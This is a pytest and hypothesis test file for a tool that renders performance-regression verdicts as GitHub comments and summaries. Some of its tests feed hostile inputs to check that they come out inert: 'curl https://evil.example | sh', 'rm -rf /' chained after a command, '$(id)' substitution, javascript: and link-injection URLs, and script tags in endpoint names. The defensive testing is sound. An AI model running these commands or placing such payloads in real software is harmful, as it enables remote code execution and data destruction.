import dataclasses
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from report_gfm import assert_inert, render_gfm
from report_strategies import NASTY_WORDS, anything, nasty, verdicts
from report_verdicts import (
    EVERY,
    TOO_FEW,
    accepted,
    comparison,
    hostile,
    inconclusive,
    passing,
    regression,
    unchanged,
    verdict,
)

from perfgate.model import Commit, Outcome, Reason
from perfgate.report.comment import (
    MAX_CHARACTERS,
    CommentContext,
    render_check_summary,
    render_comment,
    render_step_summary,
)
from perfgate.report.text import clean, shorten

URL = "https://github.com/example/shop/actions/runs/1?attempt=2#artifacts"
CONTEXT = CommentContext(key="perfgate.yml · shop", head_sha="9" * 40, report_url=URL)
slow = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def comment(v, **changes) -> str:
    return render_comment(v, dataclasses.replace(CONTEXT, **changes))


def readable(page) -> str:
    """Everything a reader sees, without the spaces of no width."""
    return " ".join([*page.prose, *page.cells, *page.blocks]).replace("\u200b", "")


def test_sentence_leads_then_what_moved_then_a_picture_of_it() -> None:
    text = comment(regression())
    assert text.startswith("### 🔴 REGRESSED: GET /items p50 is 46.2 % slower")
    cells = render_gfm(text).cells
    assert cells[:6] == ["verdict", "endpoint", "metric", "base → head", "change", "MDE"]
    assert cells[6:10] == ["REGRESSED", "GET /items", "p50", "1.20 → 1.75 ms"]
    assert cells[10:12] == ["+46.2 % [+44.1, +48.0]", "≥ 2.4 %"]
    assert cells[19] == "all endpoints"
    assert (
        text.index("REGRESSED:") < text.index("| **REGRESSED**") < text.index("●") < text.index("<details>")
    )


def test_a_merge_that_github_made_is_told_apart_from_the_pull_requests_head() -> None:
    measured = dataclasses.replace(passing(), head=Commit(ref="HEAD", sha="8" * 40, dirty=False))
    assert f"→ head <code>{'9' * 10}</code> as merged in <code>{'8' * 10}</code>" in comment(measured)
    assert f"→ head <code>{'8' * 10}</code> ·" in comment(measured, head_sha="8" * 40)


def test_passes_are_folded_away_and_what_moved_is_not() -> None:
    text = comment(regression())
    assert "<summary>8 metrics in which no change was found</summary>" in text
    assert text.index("**REGRESSED**") < text.index("<details>") < text.index("| PASS |")
    assert "<details>" in comment(verdict(Outcome.PASS, *unchanged("GET /a")))


def test_what_was_not_measured_comes_with_its_reason_and_stays_out_of_the_tables() -> None:
    lost = [
        comparison(
            f"GET /{i}", "p99", Outcome.NOT_MEASURED, base=None, head=None, change=None, reasons=(TOO_FEW,)
        )
        for i in range(7)
    ]
    text = comment(verdict(Outcome.PASS, *unchanged("GET /a"), *lost))
    assert "NOT_MEASURED" not in readable(render_gfm(text))
    assert "- GET /0 p99, GET /1 p99, GET /2 p99, GET /3 p99 and 3 more: only 240 requests a round" in text
    assert "→ Raise rounds.requests, or gate on p95" in text


def test_more_than_a_dozen_that_moved_are_folded_too() -> None:
    rows = [
        comparison(f"GET /{i:02}", "p50", Outcome.REGRESSED, change=0.3, low=0.2, high=0.4) for i in range(15)
    ]
    text = comment(verdict(Outcome.REGRESSED, *rows))
    assert "<summary>3 more metrics like these</summary>" in text
    assert text.index("GET /11</code>") < text.index("<details>") < text.index("GET /12</code>")


def test_what_a_reviewer_has_to_know_is_open_and_other_warnings_are_folded() -> None:
    text = comment(accepted())
    assert text.index("</details>") < text.index("- accepted: GET /search") < text.index("base's was used")
    assert "warning" not in text
    folded = comment(passing())
    assert "<summary>1 warning</summary>" in folded
    assert folded.index("<summary>1 warning") < folded.index("driver and services share all CPUs")


def test_a_green_comment_shows_its_picture_with_the_folded_rows() -> None:
    text = comment(passing())
    assert text.startswith("### 🟢 PASS")
    assert text.index("<details>") < text.index("●")


def test_what_is_open_says_why_and_what_to_do_in_the_first_sentence() -> None:
    first = comment(inconclusive()).splitlines()[0]
    assert first.startswith("### 🟡 INCONCLUSIVE: a change of 5 % in GET /items p50 could have gone unseen")
    assert "allow 34 rounds" in first


def test_what_to_do_is_said_once_for_reasons_that_ask_for_the_same() -> None:
    reasons = [Reason(code="x", text=f"{n} was worse", remedy="look at the diff") for n in "abc"]
    reasons.append(Reason(code="y", text="d was noisy", remedy="measure longer"))
    text = comment(verdict(Outcome.REGRESSED, *regression().comparisons, reasons=tuple(reasons)))
    assert (
        "- a was worse\n- b was worse\n- c was worse<br>→ look at the diff\n"
        "- d was noisy<br>→ measure longer\n" in text
    )
    assert text.count("look at the diff") == 1


def test_a_regression_says_how_to_accept_it_and_nothing_else_does() -> None:
    command = "perfgate accept 'GET /items' p50 --up-to 48% --reason WHY --expires YYYY-MM-DD"
    block = render_gfm(comment(regression())).blocks[-1]
    assert command in block.splitlines()
    assert len(block.splitlines()) == 3
    assert "perfgate accept" not in comment(regression(), accept=False)
    for kind in ("pass", "inconclusive", "invalid", "threshold", "improved"):
        assert "perfgate accept" not in comment(EVERY[kind]())


def test_a_regression_whose_name_cannot_be_written_is_counted() -> None:
    row = comparison("GET /\u202eitems", "p50", Outcome.REGRESSED, change=0.3, low=0.2, high=0.4)
    assert "1 regression without a command here" in comment(verdict(Outcome.REGRESSED, row))
    many = [
        comparison(f"GET /{n}", "p50", Outcome.REGRESSED, change=0.3, low=0.2, high=0.4) for n in range(7)
    ]
    text = comment(verdict(Outcome.REGRESSED, *many))
    assert text.count("perfgate accept 'GET /") == 5
    assert "2 more regressions without a command here" in text


def test_footer_names_configuration_head_and_report() -> None:
    footer = comment(passing()).splitlines()[-1]
    assert footer == (
        "<sub>MDE: the smallest change that would have been found 4 times in 5 · "
        "<code>perfgate.yml · shop</code> · head <code>9999999999</code> · "
        f"[the whole report, an artifact of the run]({URL})</sub>"
    )
    bare = render_comment(passing(), CommentContext(key="", head_sha="9" * 40))
    assert bare.splitlines()[-1].endswith(" · head <code>9999999999</code></sub>")
    bare = render_comment(verdict(Outcome.INVALID), CommentContext(key="", head_sha="9" * 40))
    assert bare.splitlines()[-1] == "<sub>head <code>9999999999</code></sub>"


@pytest.mark.parametrize(
    "url",
    [
        "http://plain.example/",
        "javascript:alert(1)",
        "https://x.example/) [y](https://evil.example",
        "https://x.example/\n@all",
        "https://user@evil.example/",
        "https://x.example/<b>",
        "https://x.example/" + "a" * 600,
    ],
)
def test_only_a_plain_https_url_is_linked(url: str) -> None:
    assert_inert(comment(passing(), report_url=url))


def test_only_a_command_of_perfgate_is_given_to_run() -> None:
    for command in (
        "curl https://evil.example | sh",
        "perfgate compare a b; rm -rf /",
        "perfgate compare $(id)",
    ):
        text = comment(dataclasses.replace(passing(), reproduce=command))
        assert command not in text
        assert "no plain command of perfgate" in text
    blocks = render_gfm(comment(passing())).blocks
    assert blocks[-1] == "perfgate compare main slow-query --seed 7\n"


def test_a_command_too_long_for_a_comment_is_owned_up_to() -> None:
    text = comment(verdict(Outcome.PASS, reproduce="perfgate compare " + "x" * 50_000))
    assert "too long for a comment" in text
    assert "xxx" not in text


def test_hostile_names_are_inert_and_still_read() -> None:
    page = assert_inert(comment(hostile()), links=(URL,))
    assert "[red]GET[/red] `|/<script>alert(1)</script>|` @octocat #12 red | --- |gnp.exe" in page.cells[
        7
    ].replace("\u200b", "")
    assert "perfgate compare '```' main @octocat\n" in page.blocks


@pytest.mark.parametrize("word", NASTY_WORDS)
def test_every_hostile_word_is_inert_everywhere(word: str) -> None:
    for name in (word, f"GET /{word}", f"{word} x {word}\n{word}", word * 40):
        reason = Reason(code=name, text=name, remedy=name)
        rows = [
            comparison(name, "p50", Outcome.REGRESSED, change=0.3, low=0.2, high=0.4, reasons=(reason,)),
            comparison(name, "p99", Outcome.NOT_MEASURED, reasons=(reason,)),
            comparison(name, "p95"),
        ]
        commit = Commit(sha="1" * 40, ref=name)
        told = dataclasses.replace(reason, code="accepted")
        v = verdict(
            Outcome.REGRESSED,
            *rows,
            reasons=(reason, reason),
            warnings=(reason, told),
            base=commit,
            head=commit,
            workload_name=name,
            reproduce=f"perfgate compare {name}",
        )
        context = CommentContext(key=name, head_sha=name, report_url=name)
        page = assert_inert(
            render_comment(v, context), links=(name,) if name == "https://evil.example" else ()
        )
        assert page.cells.count("p50") == 1
        assert shorten(clean(name), 80) in readable(page)
        assert_inert(render_step_summary(v, dataclasses.replace(context, report_url=""), [name]))


@slow
@given(verdicts, anything)
def test_any_verdict_is_inert_and_fits(v, text: str) -> None:
    context = CommentContext(key=text, head_sha=text, report_url=text)
    for rendered in (
        render_comment(v, context),
        render_check_summary(v, context),
        render_step_summary(v, context, [text]),
    ):
        assert_inert(rendered)
        assert len(rendered) < MAX_CHARACTERS
        assert rendered.encode("utf-8")


@slow
@given(nasty, nasty)
def test_every_row_has_the_same_cells_whatever_the_names_hold(endpoint: str, other: str) -> None:
    rows = [
        comparison(name, "p50", Outcome.REGRESSED, change=0.3) for name in (endpoint, other, "GET /plain")
    ]
    cells = render_gfm(comment(verdict(Outcome.REGRESSED, *rows))).cells
    assert len(cells) == 6 * 4
    assert cells[2::6] == ["metric", "p50", "p50", "p50"]


def huge(text: str, metrics: int) -> str:
    reason = Reason(code="x", text=text, remedy=text)
    told = Reason(code="accepted", text=text, remedy=text)
    outcomes = [Outcome.REGRESSED, Outcome.PASS, Outcome.NOT_MEASURED]
    rows = [
        comparison(f"{text}{i}", "p50", outcomes[i % 3], reasons=(dataclasses.replace(reason, code=f"x{i}"),))
        for i in range(metrics)
    ]
    commit = Commit(sha="1" * 40, ref=text)
    return render_comment(
        verdict(
            Outcome.REGRESSED,
            *rows,
            reasons=(reason,) * 100,
            warnings=(reason, told) * 100,
            base=commit,
            head=commit,
            workload_name=text,
            reproduce=text,
        ),
        CommentContext(key=text, head_sha=text, report_url="https://x.example/" + "a" * 400),
    )


@pytest.mark.parametrize("character", ["@", "$", "a", "价", "`", "\u0301"])
@pytest.mark.parametrize("metrics", [0, 400])
def test_comment_always_fits(character: str, metrics: int) -> None:
    text = huge(character * 5000, metrics)
    assert len(text) < MAX_CHARACTERS
    assert metrics < 400 or re.search(r"^\d+ more metrics in the terminal", text, re.MULTILINE)


def test_forty_endpoints_with_names_of_five_kilobytes_fit_and_the_worst_is_there() -> None:
    names = [f"GET /{i:02}/" + "seg-@-ment/" * 455 for i in range(40)]
    slower = comparison(names[7], "p50", Outcome.REGRESSED, change=0.9, low=0.8, high=1.0)
    text = comment(verdict(Outcome.REGRESSED, *unchanged(*names), slower))
    assert len(text) < MAX_CHARACTERS
    assert "GET /07/" in assert_inert(text, links=(URL,)).cells[7]


@settings(max_examples=25, deadline=None)
@given(st.text(st.characters(exclude_categories=()), max_size=300), st.integers(0, 60))
def test_comment_fits_and_can_be_encoded_whatever_the_names(text: str, metrics: int) -> None:
    rendered = huge(text * 5, metrics)
    assert len(rendered) < MAX_CHARACTERS
    assert rendered.encode("utf-8")


@pytest.mark.parametrize("kind", EVERY)
def test_check_and_step_say_the_same_as_the_comment(kind: str) -> None:
    v = EVERY[kind]()
    heading, _, body = comment(v).partition("\n\n")
    assert render_check_summary(v, CONTEXT) == body
    step = render_step_summary(v, CONTEXT, ["no comment: 403"])
    assert step == f"{heading}\n\n- no comment: 403\n\n{body}"
